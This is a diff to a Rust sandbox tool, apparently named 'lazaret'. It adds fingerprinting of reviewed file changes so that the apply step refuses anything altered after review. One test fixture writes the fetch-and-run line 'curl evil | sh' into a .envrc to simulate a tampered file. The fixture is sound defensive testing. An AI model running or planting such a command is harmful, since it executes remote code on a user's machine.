@@ -461,10 +461,82 @@ pub fn diff_text(rel: &Path, host: Option<&[u8]>, domain: Option<&[u8]>) -> Stri
     out
 }
 
+/// A row as reviewed: a digest of its path, how it differs and both
+/// sides as read (kind, mode, bytes). `apply` copies a row only while its
+/// fingerprint is one that `changes` or `state diff` showed, so what the
+/// sandbox changes after the review (or the developer on the host) is
+/// not copied unseen.
+pub fn fingerprint(r: &Row) -> String {
+    let mut h = openssl::sha::Sha256::new();
+    let mut part = |b: &[u8]| {
+        h.update(&(b.len() as u64).to_le_bytes());
+        h.update(b);
+    };
+    part(r.path.as_os_str().as_bytes());
+    part(r.how.word().as_bytes());
+    for c in [&r.host, &r.domain] {
+        part(c.kind().as_bytes());
+        match c {
+            Content::File(d, m) => {
+                part(&m.to_le_bytes());
+                part(d);
+            }
+            Content::Symlink(t) => part(t),
+            Content::TooLarge(n) => part(&n.to_le_bytes()),
+            _ => part(b""),
+        }
+    }
+    crate::domain::hex(&h.finish())
+}
+
+/// Adds the fingerprints of `rows` to the reviewed list `file` (kept to
+/// the last `REVIEWED_MAX`).
+pub fn record_reviewed(file: &Path, rows: &[Row]) -> io::Result<()> {
+    if rows.is_empty() {
+        return Ok(());
+    }
+    let mut all = read_reviewed_lines(file);
+    all.extend(rows.iter().map(fingerprint));
+    let skip = all.len().saturating_sub(REVIEWED_MAX);
+    let mut text = String::new();
+    for l in &all[skip..] {
+        text.push_str(l);
+        text.push('\n');
+    }
+    let tmp = file.with_extension("tmp");
+    std::fs::write(&tmp, text)?;
+    std::fs::rename(&tmp, file)
+}
+
+/// Most fingerprints the reviewed list keeps.
+const REVIEWED_MAX: usize = 100_000;
+
+fn read_reviewed_lines(file: &Path) -> Vec<String> {
+    std::fs::read_to_string(file)
+        .map(|t| t.lines().map(str::to_string).collect())
+        .unwrap_or_default()
+}
+
+/// The fingerprints `record_reviewed` kept.
+pub fn reviewed(file: &Path) -> std::collections::HashSet<String> {
+    read_reviewed_lines(file).into_iter().collect()
+}
+
+/// `apply` of a row whose fingerprint is in `seen` (shown by a review);
+/// any other is refused.
+pub fn apply_reviewed(host: &Path, r: &Row, seen: &std::collections::HashSet<String>) -> Result<(), Refused> {
+    if !seen.contains(&fingerprint(r)) {
+        return Err(Refused::NotReviewed);
+    }
+    apply(host, r)
+}
+
 /// Why `apply` left one entry alone: a variant per step. `Display` is
 /// the one line printed for it.
 #[derive(Debug)]
 pub enum Refused {
+    /// Not shown in this state by `changes` or `state diff`.
+    NotReviewed,
     /// The Domain's copy is not read as text (its one-line note).
     NotRead(String),
     /// The Domain's copy is a kind of entry that is not copied.
@@ -485,6 +557,9 @@ pub enum Refused {
 impl std::fmt::Display for Refused {
     fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
         match self {
+            Refused::NotReviewed => f.write_str(
+                "it differs from what `lazaret changes` or `lazaret state diff` last showed: review it again",
+            ),
             Refused::NotRead(why) => write!(f, "the Domain's copy is {why}"),
             Refused::Kind(k) => write!(f, "the Domain's copy is a {k}"),
             Refused::Workspace(e) => write!(f, "opening the workspace: {e}"),
@@ -698,6 +773,37 @@ mod tests {
         );
         assert!(l.truncated, "a listing that stopped early says so");
         assert!(!l.rows.is_empty());
+        let _ = std::fs::remove_dir_all(&d);
+    }
+
+    /// The sandbox changes its copy after the developer reviewed it (or a
+    /// review never happened): apply copies nothing unseen.
+    #[test]
+    fn apply_copies_only_what_was_reviewed() {
+        let d = tmp("reviewed");
+        let (ws, st) = (d.join("ws"), d.join("st"));
+        let seen_file = d.join("reviewed");
+        std::fs::write(ws.join(".envrc"), "developer\n").unwrap();
+        std::fs::write(st.join(".envrc"), "export OK=1\n").unwrap();
+        let m = Matcher::new(&[], &[]);
+        let list = || differing(&ws, &st, &m, &[]).rows;
+        // Never reviewed: refused.
+        let r = apply_reviewed(&ws, &list()[0], &reviewed(&seen_file));
+        assert!(matches!(r, Err(Refused::NotReviewed)), "{r:?}");
+        record_reviewed(&seen_file, &list()).unwrap();
+        // Swapped after the review.
+        std::fs::write(st.join(".envrc"), "curl evil | sh # SANDBOX\n").unwrap();
+        let r = apply_reviewed(&ws, &list()[0], &reviewed(&seen_file));
+        assert!(r.unwrap_err().to_string().contains("review it again"));
+        assert_eq!(std::fs::read(ws.join(".envrc")).unwrap(), b"developer\n");
+        // The host file changed after the review: refused too.
+        std::fs::write(st.join(".envrc"), "export OK=1\n").unwrap();
+        std::fs::write(ws.join(".envrc"), "developer 2\n").unwrap();
+        assert!(apply_reviewed(&ws, &list()[0], &reviewed(&seen_file)).is_err());
+        std::fs::write(ws.join(".envrc"), "developer\n").unwrap();
+        // As reviewed: applied.
+        apply_reviewed(&ws, &list()[0], &reviewed(&seen_file)).unwrap();
+        assert_eq!(std::fs::read(ws.join(".envrc")).unwrap(), b"export OK=1\n");
         let _ = std::fs::remove_dir_all(&d);
     }
 
